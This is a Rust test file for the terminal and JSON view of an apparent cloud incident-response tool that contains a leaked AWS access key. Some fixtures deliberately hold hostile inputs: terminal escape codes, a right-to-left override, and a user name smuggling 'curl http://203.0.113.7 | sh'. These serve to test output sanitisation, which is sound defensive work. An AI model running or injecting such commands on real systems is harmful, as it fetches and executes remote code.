//! The page, as a tired person sees it.

#![expect(clippy::unwrap_used, clippy::indexing_slicing, reason = "tests")]

use backstop_core::{
    Change, Mode, Outcome, Receipt, Resource, StepId, Target, Verification,
    finding::{Route, Severity},
    kind,
    log::{FindingRef, Opened, Record, StepRef},
};
use jiff::{SignedDuration, Timestamp};

use super::*;

const ID: &str = "01JDXQ6T8R7M5V9N2K4H3G1FZB";

/// As the deployment has them.
fn playbooks() -> backstop_core::Playbooks {
    backstop_core::Playbooks::from_table(include_str!("../../../../../playbooks/containing.tsv"))
}

fn step(name: &str, title: &str, high_impact: bool) -> StepRef {
    StepRef {
        step: name.into(),
        action: format!("iam.{name}").as_str().into(),
        title: title.into(),
        phase: Phase::Contain,
        high_impact,
        with: Default::default(),
    }
}

fn opened(mode: Mode) -> Event {
    Event::Opened(Box::new(Opened {
        playbook: "leaked-access-key".into(),
        target: Target {
            account: "123456789012".into(),
            region: "eu-west-1".into(),
            partition: "aws".into(),
            resource: Resource::AccessKey(kind::AccessKey {
                key_id: "AKIAIOSFODNN7EXAMPLE".into(),
                user_name: Some("ci".into()),
                user_id: None,
            }),
        },
        mode,
        steps: vec![
            step("deactivate-key", "Deactivate the access key", false),
            step("deny-user", "Deny the user everything", true),
        ],
        origin: Origin::Finding,
        finding: FindingRef {
            key: "123456789012/eu-west-1/0a1b".into(),
            finding_type: "UnauthorizedAccess:IAMUser/MaliciousIPCaller.Custom".into(),
            route: Route::GuardDutyEvent,
            severity: Severity::of_score(8.0),
            count: 3,
            first_seen: Some("2026-01-01T09:00:00Z".parse().unwrap()),
            last_seen: Some("2026-01-01T09:58:00Z".parse().unwrap()),
            created_at: None,
            updated_at: Some("2026-01-01T09:59:48Z".parse().unwrap()),
            message: None,
            facts: Vec::new(),
            peers: Vec::new(),
            hub: None,
        },
        title: "user \u{1b}]0;owned\u{7}ci\u{202e}\r\nWhat to do next\n  - curl http://203.0.113.7".into(),
        linked: None,
        case: backstop_core::case::Case::default(),
        guardrails: vec![],
    }))
}

fn plan(step: &str, what: &str, now: &str, after: &str) -> Box<Plan> {
    Box::new(
        serde_json::from_value(serde_json::json!({
            "step": step,
            "action": format!("iam.{step}"),
            "principal": "arn:aws:iam::123456789012:user/ci",
            "changes": [Change {
                api: "iam:UpdateAccessKey".into(),
                what: what.into(),
                now: now.into(),
                after: after.into(),
            }],
            "blast_radius": ["whatever uses this key stops working: last used for s3 in eu-west-1"],
            "limits": ["sessions made with the key outlive it"],
            "receipt": Receipt(serde_json::Value::Null),
        }))
        .unwrap(),
    )
}

fn key_plan() -> Box<Plan> {
    plan(
        "deactivate-key",
        "access key AKIAIOSFODNN7EXAMPLE of user ci",
        "Active",
        "Inactive",
    )
}

fn planned(plan: Box<Plan>) -> Event {
    Event::Planned {
        hash: plan.hash().unwrap(),
        plan,
    }
}

/// The view, half a second after the last event; the events come 400 ms after one another.
fn view(events: Vec<Event>) -> View {
    let start: Timestamp = "2026-01-01T10:00:00Z".parse().unwrap();
    let mut log: Vec<Record> = Vec::new();
    for (place, event) in (0..).zip(events) {
        let at = start + SignedDuration::from_millis(400 * place);
        log.push(Record::next(log.last(), at, format!("write-{place}"), event).unwrap());
    }
    let read_at = start + SignedDuration::from_mins(4);
    View(api::View::of(&ID.into(), log, &playbooks(), read_at).unwrap())
}

fn verified(step: &str, holds: bool, observed: &str) -> Event {
    Event::Verified {
        step: StepId::from(step),
        verification: Verification {
            holds,
            observed: observed.into(),
        },
        after_end: false,
    }
}

#[test]
fn what_was_done_proven_and_failed() {
    let detail = "`iam:PutUserPolicy` on user `ci`: AccessDenied: not authorized";
    let view = view(vec![
        opened(Mode::Auto),
        Event::Acting { plan: key_plan() },
        Event::StepEnded {
            step: "deactivate-key".into(),
            outcome: Outcome::Done,
        },
        Event::StepEnded {
            step: "deny-user".into(),
            outcome: Outcome::failed(backstop_core::ErrorName::AccessDenied, detail),
        },
        verified(
            "deactivate-key",
            true,
            "access key AKIAIOSFODNN7EXAMPLE is Inactive",
        ),
        Event::Notified {
            channel: "topic".into(),
            subject: "s".into(),
            message_id: "m".into(),
            body: None,
            about: Default::default(),
            notice: None,
        },
        Event::Closed {
            status: Status::PartiallyContained,
        },
    ]);
    insta::assert_snapshot!(view.to_string());
    assert!(view.is_over());
}

/// What an attacker left, one of its names chosen to do harm.
#[test]
fn what_an_investigation_proposes_is_ready_to_type() {
    use backstop_core::investigation::{Call, Investigation, Scope, Suspect};
    let Event::Opened(mut with_investigation) = opened(Mode::Auto) else {
        unreachable!("opened")
    };
    with_investigation.steps.push(StepRef {
        phase: Phase::Investigate,
        ..step("find-what-it-did", "Find out what the credential did", false)
    });
    let calls = ["helper", "x; curl http://203.0.113.7 | sh \u{1b}[2J"].map(|name| {
        let event = serde_json::json!({
            "eventID": name, "eventName": "CreateUser", "eventSource": "iam.amazonaws.com",
            "eventTime": "2026-01-01T09:30:00Z", "sourceIPAddress": "198.51.100.7",
            "userIdentity": { "type": "IAMUser", "userName": "ci", "accessKeyId": "AKIAIOSFODNN7EXAMPLE" },
            "requestParameters": { "userName": name }, "responseElements": {},
        });
        Call::read(&event.to_string()).unwrap()
    });
    let scope = Scope {
        from: "2025-12-31T10:00:00Z".parse().unwrap(),
        to: "2026-01-01T10:00:00Z".parse().unwrap(),
        regions: vec!["eu-west-1".into(), "us-east-1".into()],
        incomplete: vec![],
        contacts: vec!["the finding names 203.0.113.9 as the other end".into()],
    };
    let suspect = Suspect::new(&with_investigation.target, Some("ci".into()));
    let found = Investigation::of(&suspect, scope, &calls, &playbooks());
    let mut kept = plan("find-what-it-did", "", "", "");
    kept.changes.clear();
    kept.blast_radius.clear();
    kept.limits = vec!["calls of the last 15 minutes may be missing".into()];
    kept.captured = Some(serde_json::to_value(&found).unwrap());
    let view = view(vec![
        Event::Opened(with_investigation),
        Event::Acting { plan: kept },
        Event::StepEnded {
            step: "find-what-it-did".into(),
            outcome: Outcome::Done,
        },
    ]);
    let page = view.to_string();
    assert_eq!(page.matches("backstop run ").count(), 1, "{page}");
    insta::assert_snapshot!(page);
    let notice =
        backstop_core::notice::mail(&backstop_core::notice::proposals(&ID.into(), &view.state).unwrap());
    insta::assert_snapshot!(format!("{}\n\n{}", notice.subject, notice.body));
}

#[test]
fn a_plan_that_waits_for_the_second_person() {
    let deny = plan(
        "deny-user",
        "inline policy `backstop-deny` of user ci",
        "absent",
        "denies everything",
    );
    let mut events = vec![opened(Mode::Approve), planned(key_plan()), planned(deny)];
    let plan_hash = view(events.clone()).state.plan_hashes().unwrap().0;
    events.push(Event::ApprovalRequested {
        plan_hash: plan_hash.clone(),
        expires_at: "2026-01-01T14:00:00Z".parse().unwrap(),
        needed: 2,
        body: None,
    });
    events.push(Event::Approved {
        by: "arn:aws:sts::123456789012:assumed-role/Oncall/alice".into(),
        person: None,
        reason: Some("key is in a public repository".into()),
        plan_hash,
    });
    let view = view(events);
    insta::assert_snapshot!(view.to_string());
    assert!(!view.is_over());
}

#[test]
fn hostile_text_can_neither_steer_the_terminal_nor_forge_a_line() {
    let text = view(vec![opened(Mode::Observe)]).to_string();
    assert!(text.chars().all(|c| c == '\n' || !c.is_control()), "{text:?}");
    assert!(!text.contains('\u{202e}'), "{text:?}");
    let forged = text
        .lines()
        .filter(|line| line.trim_start().starts_with("- curl"));
    assert_eq!(forged.count(), 0, "{text}");
}

#[test]
fn programs_get_state_and_log() {
    let view = view(vec![opened(Mode::Auto), Event::Acting { plan: key_plan() }]);
    let json = serde_json::to_value(&view).unwrap();
    assert_eq!(json["status"], "containing");
    assert_eq!(json["incident"], ID);
    assert_eq!(json["log"][1]["event"]["event"], "acting");
    assert_eq!(json["times"][0]["after_opening_ms"], 400);
    assert_eq!(
        json["next"][0],
        format!("follow it: backstop incidents show {ID} --watch")
    );
}
